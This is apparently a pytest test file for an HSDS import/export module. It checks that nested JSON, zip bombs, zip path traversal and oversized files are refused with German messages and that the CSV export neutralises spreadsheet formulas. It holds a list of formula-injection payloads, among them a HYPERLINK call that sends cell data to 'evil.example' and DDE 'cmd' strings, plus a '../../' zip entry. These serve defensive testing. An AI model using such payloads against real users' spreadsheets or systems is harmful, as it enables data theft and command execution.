"""HSDS files as a hostile or careless sender makes them (issue 19: "an HSDS file with unknown
fields or broken references: a clear German message per entry, nothing half-imported"): every
one of them ends in :class:`casefile.hsds.HsdsError` with German lines -- never a traceback,
never gigabytes of memory -- and the CSV export opens in a spreadsheet without running a
formula an offer's text carries.
"""

from __future__ import annotations

import csv
import io
import json
import uuid
import zipfile

import pytest
from hypothesis import given, settings, strategies as st

from casefile import hsds
from casefile.records import Offer, OfferPlace, Provider
from casefile.spreadsheet import spreadsheet_safe, spreadsheet_text

FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n")


def _refused(path) -> list[str]:
    with pytest.raises(hsds.HsdsError) as exc:
        hsds.read_path(path)
    assert exc.value.messages and all(isinstance(m, str) and m for m in exc.value.messages)
    return exc.value.messages


def test_deeply_nested_json_is_refused_in_words(tmp_path):
    deep = tmp_path / "deep.json"
    deep.write_text("[" * 200_000 + "]" * 200_000, encoding="utf-8")
    assert "verschachtelt" in _refused(deep)[0]
    nested = tmp_path / "nested.json"
    nested.write_text(
        '[{"name": "x", "services": [' + '{"a":' * 50_000 + "1" + "}" * 50_000 + "]}]"
    )
    assert _refused(nested)


def test_a_zip_bomb_is_refused_by_its_declared_size_before_it_is_unpacked(tmp_path):
    bomb = tmp_path / "bomb.zip"
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("organizations.csv", "id,name\n" + "x" * (hsds.MAX_BYTES + 1))
    assert bomb.stat().st_size < 1024 * 1024
    assert "zu groß" in _refused(bomb)[0]


def test_a_file_or_folder_over_the_limit_is_refused(tmp_path, monkeypatch):
    monkeypatch.setattr(hsds, "MAX_BYTES", 1000)
    big = tmp_path / "big.json"
    big.write_text(json.dumps([{"id": str(uuid.uuid4()), "name": "x" * 2000}]))
    assert "zu groß" in _refused(big)[0]
    folder = tmp_path / "csv"
    folder.mkdir()
    (folder / "organizations.csv").write_text("id,name\n" + "\n".join(
        f"{uuid.uuid4()},Träger" for _ in range(50)))  # fmt: skip
    assert "zu groß" in _refused(folder)[0]


def test_too_many_entries_are_refused_as_a_whole(tmp_path, monkeypatch):
    monkeypatch.setattr(hsds, "MAX_ENTRIES", 10)
    folder = tmp_path / "csv"
    folder.mkdir()
    rows = "\n".join(f"{uuid.uuid4()},Träger {n}" for n in range(11))
    (folder / "organizations.csv").write_text("id,name\n" + rows, encoding="utf-8")
    assert "höchstens 10" in _refused(folder)[0]


def test_a_cell_over_the_csv_limit_or_a_broken_zip_entry_is_a_german_line(tmp_path):
    folder = tmp_path / "csv"
    folder.mkdir()
    (folder / "organizations.csv").write_text(
        f'id,name\n{uuid.uuid4()},"{"x" * 200_000}"\n', encoding="utf-8"
    )
    assert "CSV" in _refused(folder)[0]
    slip = tmp_path / "slip.zip"
    with zipfile.ZipFile(slip, "w") as z:
        z.writestr("../../organizations.csv", b"id,name\n\xff\xfe\n")
    assert _refused(slip)


def test_a_zip_entry_with_a_path_is_read_by_its_name_only_and_nothing_is_written(tmp_path):
    slip = tmp_path / "in" / "slip.zip"
    slip.parent.mkdir()
    pid = str(uuid.uuid4())
    with zipfile.ZipFile(slip, "w") as z:
        z.writestr("../../organizations.csv", f"id,name\n{pid},Diakonie\n")
    imported = hsds.read_path(slip)
    assert [p.id for p in imported.providers] == [pid]
    assert sorted(p.name for p in tmp_path.rglob("*")) == ["in", "slip.zip"]


_HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Klick")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "'=1+1",
    "''@x",
]


def test_the_csv_export_neutralises_formulas_and_the_import_reads_them_back(tmp_path):
    provider = Provider(name=_HOSTILE[0], description=_HOSTILE[1])
    offer = Offer(
        provider_id=provider.id,
        name=_HOSTILE[2],
        topics=["residence"],
        places=[OfferPlace(location="dez_nebra")],
        description=_HOSTILE[3],
        eligibility=_HOSTILE[4],
        what_to_bring=_HOSTILE[5],
        cost=_HOSTILE[6],
        phone="+49 3445 73-0",
    )
    files = hsds.export([provider], [offer]).csv_files()
    for name, text in files.items():
        for row in csv.reader(io.StringIO(text)):
            for cell in row:
                assert not cell.startswith(FORMULA_START) or cell == "+49 3445 73-0", (name, cell)
    back = hsds.import_csv(list(files.items()))
    assert back.providers[0].name == provider.name
    assert back.providers[0].description == provider.description
    got = back.offers[0]
    assert (got.name, got.description, got.eligibility, got.what_to_bring, got.cost) == (
        offer.name,
        offer.description,
        offer.eligibility,
        offer.what_to_bring,
        offer.cost,
    )
    assert got.phone == "+49 3445 73-0"  # a phone number stays as the platforms read it


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet=st.sampled_from(["'", "=", "+", "-", "@", "\t", "1", " ", "a", "("])))
def test_neutralising_is_exact_and_leaves_no_formula(text):
    cell = spreadsheet_safe(text)
    assert spreadsheet_text(cell) == text
    if cell.startswith(FORMULA_START):
        assert all(ch in "0123456789 ./()+-" for ch in cell), cell
